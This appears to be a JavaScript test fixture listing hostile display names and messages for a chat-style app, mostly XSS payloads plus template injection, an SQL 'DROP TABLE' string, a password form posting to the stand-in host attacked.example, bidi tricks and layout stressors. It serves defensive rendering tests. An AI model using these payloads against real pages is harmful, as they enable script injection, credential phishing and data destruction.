/* hostile.mjs - what somebody may call themselves, a room, or say, to do harm by it
 *
 * As they are meant to be shown: as they are.  Each calls attacked() if it is more than
 * text to a page, asks somebody else for something, or is hard to lay out.
 */
const zero_width = "\u200b\u200c\u200d\u2060\ufeff";
const zalgo = [..."hello"].map((letter) => letter +
	"\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a".repeat(5)).join("");

export const hostile = [
	/* Elements that are scripts, or run one */
	"<script>attacked()</script>",
	"<SCRIPT SRC=//attacked.example/x.js></SCRIPT>",
	"</script><script>attacked()</script>",
	"<script>attacked()//",
	"<scr<script>ipt>attacked()</scr</script>ipt>",
	"<img src=x onerror=attacked()>",
	"<img src='//attacked.example/x.png'>",
	"\"><img src=x onerror=attacked()>",
	"'><img src=x onerror=attacked()>",
	"<svg onload=attacked()>",
	"<svg><script>attacked()</script></svg>",
	"<svg><animate onbegin=attacked() attributeName=x dur=1s>",
	"<math><mtext><table><mglyph><style><img src=x onerror=attacked()>",
	"<iframe src=javascript:attacked()>",
	"<iframe srcdoc='<script>parent.attacked()</script>'>",
	"<object data=javascript:attacked()>",
	"<embed src=//attacked.example/x.swf>",
	"<details open ontoggle=attacked()>",
	"<input autofocus onfocus=attacked()>",
	"<video><source onerror=attacked()>",
	"<body onload=attacked()>",
	"<marquee onstart=attacked()>",
	"<style>@import '//attacked.example/x.css'; * { display: none }</style>",
	"<link rel=stylesheet href=//attacked.example/x.css>",
	"<base href=//attacked.example/>",
	"<meta http-equiv=refresh content='0;url=//attacked.example/'>",
	"<form action=//attacked.example/><input name=password></form>",
	"<dialog open>attacked</dialog>",
	"<a href=javascript:attacked()>look</a>",
	"<template><script>attacked()</script></template>",
	"<!--<img src=--><img src=x onerror=attacked()>",
	"<![CDATA[<script>attacked()</script>]]>",
	"<noscript><p title=\"</noscript><img src=x onerror=attacked()>\">",

	/* Addresses, and what has been written already */
	"javascript:attacked()",
	"data:text/html,<script>attacked()</script>",
	"//attacked.example/x",
	"https://attacked.example/\" onmouseover=attacked() x=\"",
	"https://attacked.example/'><script>attacked()</script>",
	"https://here.example@attacked.example/\u202egnp",
	"https://javascript:attacked()//",
	"&lt;script&gt;attacked()&lt;/script&gt;",
	"&#60;img src=x onerror=attacked()&#62;",
	"\\u003cimg src=x onerror=attacked()\\u003e",
	"%3Cimg%20src=x%20onerror=attacked()%3E",

	/* Templates, and what ends a text */
	"${attacked()}",
	"{{constructor.constructor('attacked()')()}}",
	"<%= attacked() %>",
	"#{attacked()}",
	"`);attacked();//",
	"');attacked();//",
	"\");attacked();//",
	"__proto__",
	"constructor",
	"[object Object]",
	"undefined",
	"'; DROP TABLE messages; --",

	/* What is hard to lay out */
	"\u202etxt.exe sdrawkcab",
	"\u2067right to left\u2066 and not\u202d ended",
	"\u05e9\u05dc\u05d5\u05dd (world) \u0645\u0631\u062d\u0628\u0627!",
	`${zero_width}nothing${zero_width}between`,
	zalgo,
	"\ufdfd".repeat(20),
	"W".repeat(3000),
	"a_very_long_name_".repeat(30),
	"\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(40),
	"one\n\n\n\n\n\n\n\nnine lines below",
	"\u001b[31mred\u001b[0m\u0007",
	"\u00ad".repeat(50) + "soft",
];
